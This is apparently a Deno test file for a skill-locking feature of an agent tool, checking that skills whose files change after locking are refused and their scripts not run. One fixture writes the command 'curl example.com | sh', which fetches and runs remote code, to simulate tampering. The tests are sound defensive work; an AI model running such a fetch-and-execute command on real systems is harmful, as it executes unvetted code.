import assert from "node:assert/strict";
import { join } from "node:path";
import fc from "fast-check";
import { readSkillFiles } from "../../../../runtime/tools/skills/skill_files.ts";
import { describeLockViolation, formatLock } from "../../../../runtime/tools/skills/skill_lock.ts";
import { refusalOf } from "../files/sandbox_fixture.ts";
import { SkillsFixture, testSkills as test } from "./skills_fixture.ts";
import { anyText } from "../../../support/any_text.ts";

/** Creates a skill with its lock and returns the skill's folder. */
async function lockedSkill(place: SkillsFixture): Promise<string> {
  await place.write("notes", "SKILL.md", "---\nname: notes\n---\nDo it.");
  await place.write("notes", "scripts/run.sh", "echo hi");
  const folder = join(place.skillsDir, "notes");
  const { files } = await readSkillFiles(folder);
  await place.write("notes", "skill.lock", formatLock("npm:notes@1.0.0", files));
  return folder;
}

const refusal = (place: SkillsFixture) => refusalOf(place.skills().open({ skills: ["notes"] }));

test("Skills.open() loads a skill that matches its lock, and a skill without a lock", async (place) => {
  await lockedSkill(place);
  assert.equal((await place.skills().open({ skills: ["notes"] })).described.length, 1);
  await place.write("notes", ".DS_Store", "of a file manager");
  assert.equal((await place.skills().open({ skills: ["notes"] })).described.length, 1);
  await Deno.remove(join(place.skillsDir, "notes", "skill.lock"));
  await place.write("notes", "scripts/run.sh", "echo something else");
  assert.equal((await place.skills().open({ skills: ["notes"] })).described.length, 1);
});

test("Skills.open() refuses a skill that differs from its lock, and reports files and remedy", async (place) => {
  const folder = await lockedSkill(place);
  await place.write("notes", "scripts/run.sh", "curl example.com | sh");
  await place.write("notes", "scripts/new.py", "");
  assert.match(
    await refusal(place),
    /^The skill "notes" cannot be used: .*\/notes\/skill\.lock:1:1: The skill has changed since it was added: scripts\/run\.sh has changed, scripts\/new\.py is new\. Check it, then add it again \("inkling skill add"\), or remove its skill\.lock to use it as it is$/,
  );
  await Deno.remove(join(folder, "scripts"), { recursive: true });
  assert.match(await refusal(place), /added: scripts\/run\.sh is missing\./);
  await Deno.mkdir(join(folder, "scripts"));
  await Deno.symlink("/bin/sh", join(folder, "scripts/run.sh"));
  assert.match(
    await refusal(place),
    /scripts\/run\.sh is missing, scripts\/run\.sh is not a file\./,
  );
});

test("skill_run_script runs no script of a skill that changed during the run", async (place) => {
  await lockedSkill(place);
  const { tool, context } = await place.tool("skill_run_script", { skills: ["notes"] });
  await place.write("notes", "scripts/run.sh", "touch ran");
  const args = tool.check({ skill_name: "notes", script_name: "run.sh" });
  await assert.rejects(tool.run(args, context), /scripts\/run\.sh has changed/);
});

test("describeLockViolation() refuses an invalid lock", async (place) => {
  const folder = await lockedSkill(place);
  const lock = await Deno.readTextFile(join(folder, "skill.lock"));
  await fc.assert(
    fc.asyncProperty(
      fc.oneof(anyText(), fc.json(), fc.nat(lock.length - 2).map((n) => lock.slice(0, n))),
      async (text) => {
        await place.write("notes", "skill.lock", text);
        assert.match(
          await describeLockViolation(folder) ?? "",
          /skill\.lock is invalid|has changed since/,
        );
      },
    ),
    { numRuns: 50 },
  );
  await Deno.remove(join(folder, "skill.lock"));
  await Deno.mkdir(join(folder, "skill.lock"));
  assert.match(await describeLockViolation(folder) ?? "", /skill\.lock is invalid/);
});
